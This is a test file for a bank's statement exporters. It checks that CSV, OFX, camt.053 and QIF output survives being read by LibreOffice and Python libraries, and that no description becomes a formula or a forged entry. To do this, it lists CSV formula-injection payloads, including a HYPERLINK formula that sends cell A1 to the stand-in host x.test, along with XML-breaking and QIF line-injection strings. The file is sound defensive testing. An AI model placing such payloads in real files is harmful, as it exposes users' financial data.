// Statements as files, read back by programs of other people: nothing in them is a formula, and all say the same as the bank.
import { beforeAll, expect, test } from 'vitest';
import { statementExample, type CsvStyle, type Statement, type StatementLine } from './contract.ts';
import { renderCamt053 } from './render-camt053.ts';
import { renderCsv } from './render-csv.ts';
import { renderOfx } from './render-ofx.ts';
import { renderQif } from './render-qif.ts';
import {
  readByCalc,
  readByPython,
  type Cell,
  type PythonFormat,
  type SpreadsheetReader,
} from './testing/read-by-others.ts';

const now = new Date('2026-12-01T00:00:01.234Z');
/** Other programs start in seconds, and beside many other tests in many. */
const slow = 240_000;

const opening = statementExample.entries[0] as StatementLine;

/** One line for each description, of one unit each. */
function saying(descriptions: readonly (string | null)[], parts: Partial<Statement> = {}): Statement {
  const entries = descriptions.map((description, index): StatementLine => {
    return { ...opening, transaction_id: index + 1, type: 'deposit', description, amount: 1, balance_after: index + 1 };
  });
  return { ...statementExample, entries, total_in: entries.length, closing_balance: entries.length, ...parts };
}

const dangerous = [
  'rent;=1+1;x',
  'rent; =1+1',
  'rent;"=1+1";x',
  'a\t=1+1',
  'a|=1+1',
  'a:=1+1',
  'a =1+1',
  'a,=1+1',
  'a\n=1+1',
  '=1+1',
  ' =1+1',
  '@SUM(A1)',
  'x;@SUM(A1)',
  'x;+A1',
  'x;-A1',
  'x;＝1+1',
  `x;=HYPERLINK("http://x.test?"&A1;"refund")`,
];

const isFormula = ({ formula }: Cell): boolean => formula !== undefined;

/** One start of LibreOffice for each reader: it takes seconds. */
test.each<[reader: string, SpreadsheetReader, own: CsvStyle | undefined, others: CsvStyle[]]>([
  ['in German', { separators: ';', locale: 'de-DE' }, 'semicolon-comma', ['plain']],
  ['in Switzerland', { separators: ';', locale: 'de-CH' }, 'semicolon-point', ['plain']],
  ['in English', { separators: ',', locale: 'en-US' }, 'comma-point', ['plain']],
  [
    'that splits wherever anybody might',
    { separators: ';\t|: ', locale: 'en-US' },
    undefined,
    ['plain', 'semicolon-comma'],
  ],
])(
  'a spreadsheet %s takes no description for a formula, and the file of its own style for columns and numbers',
  async (_, reader, own, others) => {
    const csvs = others.map((style) => renderCsv(saying(dangerous), style));
    const unsafe = renderCsv(saying(dangerous), 'plain').replaceAll("'", '');
    const amounts = saying(['Zürich; Miete, €', null]);
    const entries = amounts.entries.map((line, index) => ({ ...line, amount: index === 0 ? -1234.5 : 1 }));
    const ownCsvs = own ? [renderCsv(saying(dangerous), own), renderCsv({ ...amounts, entries }, own)] : [];
    const [unsafeRows = [], ...sheets] = await readByCalc([unsafe, ...csvs, ...ownCsvs], reader);
    expect(sheets.flat(2).filter(isFormula)).toEqual([]);
    // Without the apostrophes some would be: this reader looks where it should.
    expect(unsafeRows.flat().filter(isFormula)).not.toEqual([]);
    if (own === undefined) return;

    const [header = [], first = [], second = []] = sheets.at(-1) ?? [];
    expect(header[0]?.text).toBe('transaction_id');
    expect([first[4]?.text, first[6]?.value, first[8]?.value]).toEqual(['Zürich; Miete, €', -1234.5, 1]);
    expect([second[4]?.text, second[6]?.value]).toEqual(['', 1]);
  },
  slow,
);

/** What a name, a number or an address may hold that XML, or a format of lines, would take for its own. */
const awkward = [
  'Rent <November> & "more"',
  ']]>',
  'Zürich €, 😀',
  'two\nlines\r\n^\nTfaked',
  'x\u2028^\u2028T1',
  'bell\u0007, \uFFFF',
  `${'a'.repeat(139)}😀${'b'.repeat(60)}`,
  null,
];

const lines: StatementLine[] = [
  { ...opening, type: 'opening', amount: 1000, balance_after: 1000 },
  {
    ...opening,
    transaction_id: 2,
    type: 'transfer',
    amount: -250.5,
    balance_after: 749.5,
    counterparty_account_id: 7,
    description: 'Rent',
  },
  { ...opening, transaction_id: 3, type: 'reversal', amount: 250.5, balance_after: 1000, counterparty_account_id: 7 },
  { ...opening, transaction_id: 4, type: 'withdrawal', amount: -0.01, balance_after: 999.99 },
];
const whole: Statement = {
  ...statementExample,
  entries: lines,
  total_in: 1250.5,
  total_out: 250.51,
  closing_balance: 999.99,
};

/** One start of Python for all: it takes longer than what it reads. */
const currencies = [
  ['JPY', 1500, '1500'],
  ['KWD', 0.001, '0.001'],
  ['USD', 9999999999999.99, '9999999999999.99'],
] as const;
const statements = {
  whole,
  awkward: saying(awkward),
  empty: saying([]),
  ...Object.fromEntries(
    currencies.map(([currency, amount]) => {
      return [currency, { ...whole, currency, entries: [{ ...opening, amount, balance_after: amount }] }];
    }),
  ),
} as Record<string, Statement>;
const render = {
  ofx: (statement: Statement) => renderOfx(statement, now),
  xml: (statement: Statement) => renderCamt053(statement, now),
  qif: renderQif,
};
type Read = { lines: (string | null)[][] };
let readings: ReadonlyMap<string, Read>;
const readingOf = (name: string, format: PythonFormat): Read | undefined => readings.get(`${name} ${format}`);

beforeAll(async () => {
  const files = Object.entries(statements).flatMap(([name, statement]) =>
    (['ofx', 'xml', 'qif'] as const).map((format) => ({
      key: `${name} ${format}`,
      format,
      text: render[format](statement),
    })),
  );
  const read = await readByPython<Read>(files.map(({ format, text }) => [format, text] as const));
  readings = new Map(files.map(({ key }, index) => [key, read[index] as Read]));
}, slow);

test('OFX 2: ofxtools reads the account, its balance and every line', () => {
  expect(readingOf('whole', 'ofx')).toEqual({
    bank: 'MICROBANK',
    account: '1',
    account_type: 'CHECKING',
    currency: 'USD',
    from: '2026-11-01T00:00:00+00:00',
    to: '2026-12-01T00:00:00+00:00',
    closing: '999.99',
    lines: [
      ['1', 'CREDIT', '2026-11-23T08:00:00+00:00', '1000.00', 'opening', null],
      ['2', 'XFER', '2026-11-23T08:00:00+00:00', '-250.50', 'Account 7', 'Rent'],
      ['3', 'CREDIT', '2026-11-23T08:00:00+00:00', '250.50', 'Account 7', null],
      ['4', 'CASH', '2026-11-23T08:00:00+00:00', '-0.01', 'withdrawal', null],
    ],
  });
});

test('camt.053: fits the published schema, with both balances, the sums and every line', () => {
  expect(readingOf('whole', 'xml')).toEqual({
    bank: 'microbank',
    account: '1',
    currency: 'USD',
    from: '2026-11-01T00:00:00.000000Z',
    to: '2026-12-01T00:00:00.000000Z',
    balances: [
      ['OPBD', '0.00', 'CRDT', '2026-11-01'],
      ['CLBD', '999.99', 'CRDT', '2026-11-30'],
    ],
    sums: ['1250.50', '250.51'],
    lines: [
      ['1', '1000.00', 'CRDT', '2026-11-23T08:00:00.000000Z', '', ''],
      ['2', '250.50', 'DBIT', '2026-11-23T08:00:00.000000Z', '7', 'Rent'],
      ['3', '250.50', 'CRDT', '2026-11-23T08:00:00.000000Z', '7', ''],
      ['4', '0.01', 'DBIT', '2026-11-23T08:00:00.000000Z', '', ''],
    ],
  });
});

test('QIF: quiffen reads the account and every line, the opening balance first', () => {
  expect(readingOf('whole', 'qif')).toEqual({
    account: 'microbank checking 1 USD',
    lines: [
      ['', '2026-11-01', '0.00', 'Opening Balance', null],
      ['1', '2026-11-23', '1000.00', 'opening', null],
      ['2', '2026-11-23', '-250.50', 'Account 7', 'Rent'],
      ['3', '2026-11-23', '250.50', 'Account 7', null],
      ['4', '2026-11-23', '-0.01', 'withdrawal', null],
    ],
  });
});

const plainly = (text: string | null | undefined): string =>
  (text ?? '').replaceAll(/[\u0007\uFFFF]/g, '\uFFFD').replaceAll('\r\n', '\n');

test.each(['ofx', 'xml'] as const)(
  'whatever a description holds, a file of %s stays what it is and says it',
  (format) => {
    const said = readingOf('awkward', format)?.lines.map((line) => plainly(line.at(-1)));
    expect(said).toEqual(awkward.map(plainly));
  },
);

test('no description begins an entry of its own in QIF', () => {
  const [, ...said] = readingOf('awkward', 'qif')?.lines ?? [];
  expect(said.map((line) => line[2])).toEqual(awkward.map(() => '1.00'));
});

test.each(currencies)('%s: %d is written %s in every format', (currency, _, text) => {
  expect(readingOf(currency, 'ofx')?.lines[0]?.[3]).toBe(text);
  expect(readingOf(currency, 'xml')?.lines[0]?.[1]).toBe(text);
  expect(readingOf(currency, 'qif')?.lines[1]?.[2]).toBe(text);
});

test('a statement without lines is one in every format', () => {
  expect(readingOf('empty', 'ofx')?.lines).toEqual([]);
  expect(readingOf('empty', 'xml')?.lines).toEqual([]);
  expect(readingOf('empty', 'qif')?.lines).toHaveLength(1);
});
